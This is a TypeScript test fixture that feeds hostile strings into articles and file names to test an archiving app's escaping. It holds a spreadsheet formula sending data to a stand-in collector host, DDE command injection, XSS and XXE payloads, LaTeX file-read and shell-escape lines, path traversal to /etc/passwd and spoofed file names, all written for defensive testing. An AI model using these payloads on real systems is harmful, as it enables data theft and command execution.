import type { ArticleInFull } from '../../../lib/article/article-in-full.ts';
import { correctionNote, relatedItem } from '../article-facts.ts';
import { fullArticle, highlightOf, versionOf } from '../full-articles.ts';
import { block } from '../readings.ts';

/**
 * What a page would put into its words to make something of a file that is not ours: a formula, markup, a field, a command, a
 * path, an end of the file. No sign of control is in them: those never get as far as the archive.
 */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("https://collector.example/?leak="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '"=1+1',
  '---',
  '--- title: "another" ---',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!-- open',
  ']]> <![CDATA[ open',
  '&xxe; &amp; &#0; &lt;b&gt;',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>',
  '[press here](javascript:alert(1))',
  '![[secret]] [[link|shown]] #tag ^id',
  '<% tp.file.delete() %> {{title}} {% if %} $x^2$',
  '| a | b | --- | `code` ~~~ ```',
  'TY  - BOOK ER  - ',
  '} @article{other, title={Another}',
  '\\input{/etc/passwd} \\write18{ls} 100% # & _ ^ ~',
  '../../etc/passwd',
  'C:\\Windows\\system32\\con',
  'NUL',
  'aux.',
  'A headline; with, "every" \'mark\': and / or \\ * ? < > | …',
  '🎉🎉🎉',
  '\u202Egnp.exe',
  'e\u0301te\u0301',
];

/**
 * An article for each hostile text, with that text wherever a page's words go. The reader's notes are Markdown of the reader's own;
 * `notes` says what stands in them.
 */
export function hostileArticles(
  notes: (text: string) => string = () => 'My **own** words.',
  texts: readonly string[] = hostileTexts,
): ArticleInFull[] {
  return texts.map((text, at) => {
    const note = `Correction: ${text} was wrong.`;
    const version = versionOf(
      [
        `The first paragraph of story ${at}.`,
        text,
        block(text, { kind: 'list-item' }),
        block(text, { kind: 'quote' }),
        block(text, { kind: 'preformatted' }),
        block(`${text} is linked`, {
          marks: [
            { kind: 'link', start: 0, end: text.length, url: 'https://gazette.example/a)b_(c)"<d>', rel: null },
            { kind: 'strong', start: 0, end: 1, url: null, rel: null },
          ],
        }),
        note,
      ],
      {
        url: `https://gazette.example/hostile/${at}`,
        canonicalUrl: `https://gazette.example/hostile/${at}`,
        headline: text,
        alternativeHeadline: text,
        authors: [{ name: `Ann ${text}`, url: null, role: null }],
        publisher: `Gazette ${text}`,
        dateline: { text, place: text, date: null, agency: null },
        articleSection: text,
        keywords: [text],
        datePublished: '2026-04-12T09:30:00+02:00',
        corrections: [
          correctionNote({ label: 'Correction', text: note, date: '2026-04-13', wrong: text, right: text }),
        ],
        related: [relatedItem({ headline: text, url: 'https://gazette.example/a)b_(c) d' })],
        image: { url: 'https://gazette.example/lead.jpg?a="b"', caption: text, credit: text },
      },
      { id: `hostile-version-${at}` },
    );
    return fullArticle([version], {
      id: at.toString(16).padStart(32, 'e'),
      highlights: [{ ...highlightOf(version, text, `${notes(text)} (${at})`), id: `hostile-highlight-${at}` }],
      marks: { savedAt: 1, readAt: null, tags: [text], note: notes(text), collections: [[text, text]], putBack: [] },
    });
  });
}

const devices = ['con', 'PRN', 'Aux.txt', 'nul', 'COM1', 'com¹.x', 'LPT9', 'CONIN$', 'clock$'];
const stems = [
  'Ferry returns to the harbour',
  'FERRY RETURNS TO THE HARBOUR',
  'Été à l’île',
  'Été à l’île'.normalize('NFD'),
  'ﬁnal oﬃce',
  'straße und STRASSE',
  'İstanbul ıssız',
  '港の記事'.repeat(40),
  'नदी के किनारे '.repeat(30),
  'العبارة تبحر ',
  '👩‍👩‍👧‍👦 family 🇩🇪',
  '. . .',
  '   ',
  '.hidden',
  '~$lock',
  'ends with a dot.',
  'ends with a space ',
  'a/b\\c:d*e?f"g<h>i|j',
  '\u202Ebidi\u2066',
  'x'.repeat(400),
  'Desktop.ini',
  '-rf',
];

/** Headlines for a folder of so many files, of which many would have the same name on one system or another. */
export function headlinesOfVault(count: number): string[] {
  const all = [...stems, ...devices, ...hostileTexts];
  return Array.from({ length: count }, (_, at) => all[at % all.length] ?? '');
}
